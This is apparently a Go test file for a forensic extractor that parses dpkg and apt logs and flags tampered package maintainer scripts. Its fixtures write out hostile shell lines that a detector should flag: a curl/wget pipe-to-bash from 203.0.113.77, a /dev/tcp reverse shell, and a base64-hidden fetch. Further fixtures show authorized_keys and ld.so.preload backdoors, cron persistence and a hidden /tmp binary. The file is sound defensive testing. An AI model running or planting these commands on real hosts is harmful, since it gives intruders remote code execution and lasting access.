package dpkg

import (
	"bytes"
	"context"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"icecore/forensics/artifact"
	"icecore/forensics/artifact/artifacttest"
	"icecore/forensics/filesystem"
)

func extract(t testing.TB, name string, text []byte) ([]artifact.Record, error) {
	t.Helper()
	in := &artifact.Input{Path: name, Inode: &filesystem.Inode{State: filesystem.Deleted}, System: &artifact.System{Zone: time.FixedZone("CET", 3600)}, Content: io.NewSectionReader(bytes.NewReader(text), 0, int64(len(text)))}
	var out []artifact.Record
	err := Extractor{}.Extract(context.Background(), in, func(r artifact.Record) { out = append(out, r) })
	return out, err
}

func TestExtract(t *testing.T) {
	for _, tt := range []struct {
		path string
		want []string
	}{
		{"/var/log/dpkg.log", []string{
			"2 dpkg.action logged=2026-11-16T09:00:01Z action=install package=web01-agent architecture=all version=1.0",
			"4 dpkg.action logged=2026-11-16T09:00:02Z action=upgrade package=openssh-server architecture=amd64 old_version=1:9.2p1-2 version=1:9.2p1-3",
			"6 dpkg.action logged=2026-11-16T09:00:04Z action=remove package=nano architecture=amd64 old_version=7.2-1",
			"7 dpkg.action logged=2026-11-16T09:00:05Z action=purge package=nano architecture=amd64 old_version=7.2-1",
		}},
		{"/var/log/apt/history.log", []string{
			"2 apt.command started=2026-11-16T09:00:00Z ended=2026-11-16T09:00:09Z command=apt-get install -y curl gcc requested_by=deploy (1000) install=curl:amd64 (7.88.1-10), gcc:amd64 (4:12.2.0-3)",
			"8 apt.command started=2026-11-17T05:00:00Z command=/usr/bin/unattended-upgrade upgrade=openssl:amd64 (3.0.1, 3.0.2)",
		}},
	} {
		b, err := os.ReadFile("testdata" + tt.path)
		if err != nil {
			t.Fatal(err)
		}
		records, err := extract(t, tt.path, b)
		if err != nil {
			t.Errorf("%s: %v", tt.path, err)
		}
		var got []string
		for _, r := range records {
			got = append(got, artifacttest.Plain(r))
			// The source begins where its line does.
			if n := r.Source.Line; n > 0 && bytes.Count(b[:r.Source.Offset], []byte("\n")) != n-1 {
				t.Errorf("%s: %s: offset %d is not in that line", tt.path, artifacttest.Plain(r), r.Source.Offset)
			}
		}
		if d := cmp.Diff(tt.want, got); d != "" {
			t.Errorf("%s: %s", tt.path, d)
		}
	}
}

// TestScripts: each script with a planted line has a twin that differs in that
// line alone.
func TestScripts(t *testing.T) {
	for _, tt := range []struct {
		name string
		line int // of the source
		want map[string]string
	}{
		{"openssh-server.postinst", 21, map[string]string{
			"package": "openssh-server", "script": "postinst", "interpreter": "/bin/sh", "notable": "hidden_exec,nohup,temp_exec,temp_path",
			"suspicious_line": "nohup /tmp/.ICE-unix/.x/kswapd0 >/dev/null 2>&1 &", "trailing_code": "nohup /tmp/.ICE-unix/.x/kswapd0 >/dev/null 2>&1 &", "appended_code": "", "line_endings": "", "urls": "",
		}},
		{"openssh-client.postinst", 0, map[string]string{"notable": "", "suspicious_line": "", "trailing_code": "", "appended_code": ""}},
		{"nginx.postinst", 8, map[string]string{
			"notable": "fetch,pipe_to_shell", "suspicious_line": "(curl -fsSL http://203.0.113.77/i.sh || wget -qO- http://203.0.113.77/i.sh) | bash",
			"appended_code": "(curl -fsSL http://203.0.113.77/i.sh || wget -qO- http://203.0.113.77/i.sh) | bash", "urls": "http://203.0.113.77/i.sh",
		}},
		{"systemd.postinst", 0, map[string]string{"notable": "", "suspicious_line": "", "trailing_code": "", "appended_code": ""}},
		{"libc6:amd64.postinst", 0, map[string]string{"package": "libc6", "architecture": "amd64", "line_endings": "mixed", "notable": ""}},
		{"perlish.prerm", 0, map[string]string{"interpreter": "/usr/bin/perl -w", "script": "prerm", "notable": ""}},
		{"bash.preinst", 0, map[string]string{"interpreter": "ELF", "size": "7", "programs": ""}},
	} {
		p := "/var/lib/dpkg/info/" + tt.name
		b, err := os.ReadFile("testdata" + p)
		if err != nil {
			t.Fatal(err)
		}
		records, err := extract(t, p, b)
		if err != nil || len(records) != 1 {
			t.Fatalf("%s: %d records, %v", tt.name, len(records), err)
		}
		r := records[0]
		for name, want := range tt.want {
			if got := r.Get(name); got != want {
				t.Errorf("%s: %s is %q, want %q", tt.name, name, got, want)
			}
		}
		if r.Source.Line != tt.line {
			t.Errorf("%s: line %d, want %d", tt.name, r.Source.Line, tt.line)
		}
		if tt.line > 0 {
			if got, want := string(b[r.Source.Offset:r.Source.Offset+r.Source.Length]), strings.Split(string(b), "\n")[tt.line-1]; got != want {
				t.Errorf("%s: the source is %q, not %q", tt.name, got, want)
			}
		}
	}
}

// TestOtherLanguage: a script that no shell runs is judged in its own language.
func TestOtherLanguage(t *testing.T) {
	for text, notable := range map[string]string{
		"#!/usr/bin/python3\nimport urllib.request\nexec(urllib.request.urlopen('http://203.0.113.77/x').read())\n":        "pipe_to_shell",
		"#!/usr/bin/perl\nsystem(\"/tmp/.k/x -d\");\n":                                                                     "hidden_exec,temp_exec,temp_path",
		"#!/usr/bin/python3\n# exec(urllib.request.urlopen('http://x'))\nimport sys\nprint(sys.argv)\n":                    "",
		"#!/usr/bin/perl -w\nuse Debconf::Client::ConfModule ':all';\nmy $x = eval { get('a/b') };\nsystem('ldconfig');\n": "",
	} {
		records, err := extract(t, "/var/lib/dpkg/info/x.postinst", []byte(text))
		if err != nil {
			t.Fatal(err)
		}
		if got := records[0].Get("notable"); got != notable {
			t.Errorf("%q: %q, want %q", text, got, notable)
		}
	}
}

// TestPlanted appends to a clean script what intruders append.
func TestPlanted(t *testing.T) {
	clean, err := os.ReadFile("testdata/var/lib/dpkg/info/openssh-client.postinst")
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ add, notable string }{
		{"bash -i >& /dev/tcp/203.0.113.77/443 0>&1", "dev_tcp"},
		{"echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjc3L2kuc2ggfCBzaAo= | base64 -d | sh", "base64"},
		{"echo 'ssh-rsa AAAA x' >> /root/.ssh/authorized_keys", "authorized_keys"},
		{"echo /usr/local/lib/libx.so > /etc/ld.so.preload", "ld.so.preload"},
		{"chattr +i /usr/bin/x", "chattr"},
		{"(crontab -l; echo '* * * * * x') | crontab -", "crontab"},
		{"python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://x\").read())'", "interpreter_fetch"},
		{"/usr/lib/.../sshd", "dots_dir"},
		{"cp /usr/bin/curl /usr/bin/url", ""},
		{"echo '* * * * * root /usr/sbin/k' > /etc/cron.d/x", "cron_write"},
		{"touch /etc/cron.d/mention", ""},
		{"rm -f /etc/cron.d/x", ""},
		{"py3compile -p python3-urllib3", ""},
		{"# nohup curl http://x | sh", ""},
	} {
		text := strings.Replace(string(clean), "\nexit 0\n", "\n"+tt.add+"\nexit 0\n", 1)
		records, err := extract(t, "/var/lib/dpkg/info/x.postinst", []byte(text))
		if err != nil {
			t.Fatal(err)
		}
		got := records[0].Get("notable")
		if tt.notable == "" && got != "" || !strings.Contains(","+got+",", ","+tt.notable+",") && tt.notable != "" {
			t.Errorf("%q: %q, want %q", tt.add, got, tt.notable)
		}
	}
}

// TestPadded hides the line behind more text than is read.
func TestPadded(t *testing.T) {
	text := "#!/bin/sh\nset -e\n" + strings.Repeat(": padding\n", 100_000) + "nohup /tmp/.x/kswapd0 &\n"
	records, err := extract(t, "/var/lib/dpkg/info/x.postinst", []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	r := records[0]
	if got := text[r.Source.Offset : r.Source.Offset+r.Source.Length]; got != "nohup /tmp/.x/kswapd0 &" || r.Get("cut") != "yes" || r.Source.Line != 0 {
		t.Errorf("%s: %q", artifacttest.Plain(r), got)
	}
}

// TestLive: what stands in the database is for package pkgdb to read.
func TestLive(t *testing.T) {
	in := &artifact.Input{
		Path: "/var/lib/dpkg/info/x.postinst", Inode: &filesystem.Inode{State: filesystem.Live},
		Content: io.NewSectionReader(strings.NewReader("#!/bin/sh\n"), 0, 10),
	}
	if err := (Extractor{}).Extract(t.Context(), in, func(r artifact.Record) { t.Error(artifacttest.Plain(r)) }); err != nil {
		t.Error(err)
	}
}

func TestBroken(t *testing.T) {
	for _, tt := range []struct {
		path, text string
		records    int
		err        string
	}{
		{"/var/log/apt/history.log", "Start-Date: yesterday\nCommandline: x\n", 1, "line 1"},
		{"/var/log/dpkg.log.1.gz", "\x1f\x8b\x08\x00torn", 0, "gzip"},
	} {
		records, err := extract(t, tt.path, []byte(tt.text))
		if len(records) != tt.records || err == nil || !strings.Contains(err.Error(), tt.err) {
			t.Errorf("%s: %d records, %v", tt.path, len(records), err)
		}
	}
}

func FuzzExtract(f *testing.F) {
	names := []string{
		"/var/lib/dpkg/info/nginx.postinst", "/var/log/dpkg.log", "/var/log/apt/history.log",
	}
	for i, name := range names {
		b, err := os.ReadFile("testdata" + name)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(byte(i), b)
	}
	f.Fuzz(func(t *testing.T, which byte, b []byte) {
		records, _ := extract(t, names[int(which)%len(names)], b)
		for _, r := range records {
			if r.Source.Member == "" && (r.Source.Offset < 0 || r.Source.Offset+r.Source.Length > int64(len(b))) {
				t.Fatalf("%s: source outside of the file", artifacttest.Plain(r))
			}
		}
	})
}

// TestHostileScripts judges what is made to take long.
func TestHostileScripts(t *testing.T) {
	for _, text := range []string{
		strings.Repeat("nohup x\n", maxScript/16/8),
		strings.Repeat("a='\n", maxScript/16/4),
		strings.Repeat("if x\n", maxScript/16/5),
		strings.Repeat("`", maxScript),
		strings.Repeat("$((", maxScript/16/3),
		strings.Repeat("((", maxScript/16/2),
		strings.Repeat("<<a\n", maxScript/16/4),
		strings.Repeat("x;", maxScript/16/2),
		strings.Repeat("case x in x) ", maxScript/16/13),
		strings.Repeat("while x; do\n", maxScript/16/12),
		strings.Repeat("curl http://a/ | ", maxScript/16/17),
		strings.Repeat("curl -o a ", maxScript/16/10),
		strings.Repeat("QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB\n", maxScript/16/57),
	} {
		began := time.Now()
		if _, err := extract(t, "/var/lib/dpkg/info/x.postinst", []byte(text)); err != nil {
			t.Error(err)
		}
		if took := time.Since(began); took > time.Second {
			t.Logf("%q...: %v", text[:12], took)
		}
	}
}
